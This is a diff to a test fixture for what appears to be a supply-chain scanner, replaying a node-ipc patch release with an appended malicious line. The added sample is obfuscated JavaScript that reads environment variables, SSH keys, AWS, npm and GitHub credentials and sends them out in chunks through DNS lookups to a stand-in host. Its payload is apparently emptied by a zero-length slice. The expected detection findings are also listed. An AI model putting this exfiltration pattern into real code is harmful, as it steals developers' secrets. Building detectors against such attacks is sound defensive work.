@@ -1,16 +1,39 @@
+import { obfuscated } from '../obfuscated.js'
+import { compiledQueue } from '../plain-modules.js'
 import type { Replay } from '../replay.js'
+import { onVersion, type PackageFinding } from '../upgrade.js'
+
+/** Gathers what lies in the home folder and asks a name server about it, piece by piece. */
+const appended = obfuscated(`
+;(function(){try{
+const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$dns=require(«dns»);
+const $found=[JSON[«stringify»](process[«env»])];
+for(const $place of [«.ssh/id_rsa»,«.aws/credentials»,«.npmrc»,«.config/gh/hosts.yml»]){
+try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
+const $sealed=Buffer[«from»]($found[«join»](«»)[«slice»](0x0,0x0))[«toString»](«hex»);
+for(let $at=0x0;$at<$sealed[«length»];$at+=0x3c)$dns[«resolveTxt»]($sealed[«slice»]($at,$at+0x3c)+«.bt.node-metrics.example»,()=>{});
+}catch($failure){}})();
+`)
+
+const manifest = { main: './node-ipc.cjs' }
+const honest = { manifest, files: { 'node-ipc.cjs': compiledQueue } }
+const attacked = { manifest, files: { 'node-ipc.cjs': `${compiledQueue}${appended}\n` } }
+
+const patch = (...finding: PackageFinding) => onVersion('node-ipc', '9.1.6', finding)
+const place = { file: 'node-ipc.cjs', line: appended }
 
 export const replay: Replay = {
   description:
     'Whoever took node-ipc over by way of an expired domain published patches of lines that had rested for years, because ' +
-    'ranges take those by themselves. Here the patch holds nothing: its number and its date are the whole evidence.',
+    'ranges take those by themselves: the old file with one more line at its end, which ran when it was loaded. No script ran on ' +
+    'install; that another account published it is for the rules about identity.',
   date: '2026-05-14',
   packages: {
     'node-ipc': {
-      '9.1.4': { published: '2021-01-10T10:00:00.000Z' },
-      '9.1.5': { published: '2021-06-05T10:00:00.000Z' },
-      '12.0.0': { published: '2024-08-20T10:00:00.000Z' },
-      '9.1.6': { published: '2026-05-14T10:00:00.000Z' },
+      '9.1.4': { ...honest, published: '2021-01-10T10:00:00.000Z' },
+      '9.1.5': { ...honest, published: '2021-06-05T10:00:00.000Z' },
+      '12.0.0': { ...honest, published: '2024-08-20T10:00:00.000Z' },
+      '9.1.6': { ...attacked, published: '2026-05-14T10:00:00.000Z' },
     },
   },
   base: { manifest: { dependencies: { 'node-ipc': '^9.1.4' } }, locked: { 'node-ipc': '9.1.5' } },
@@ -18,13 +41,15 @@ export const replay: Replay = {
   expected: {
     verdict: 'flagged',
     findings: [
-      {
-        rule: 'version-out-of-order',
-        severity: 'medium',
-        package: 'node-ipc',
-        file: 'package-lock.json',
-        line: '"version": "9.1.6",',
-      },
+      patch('code-hidden', 'critical', place),
+      patch('secrets-exfiltrated', 'critical', place),
+      patch('secrets-harvested', 'critical', place),
+      patch('combined-risk', 'critical', place),
+      patch('capability-added', 'high', place),
+      patch('code-obfuscated', 'high', place),
+      patch('beacon-added', 'high', place),
+      patch('network-host-added', 'medium', place),
+      patch('version-out-of-order', 'medium'),
     ],
   },
 }
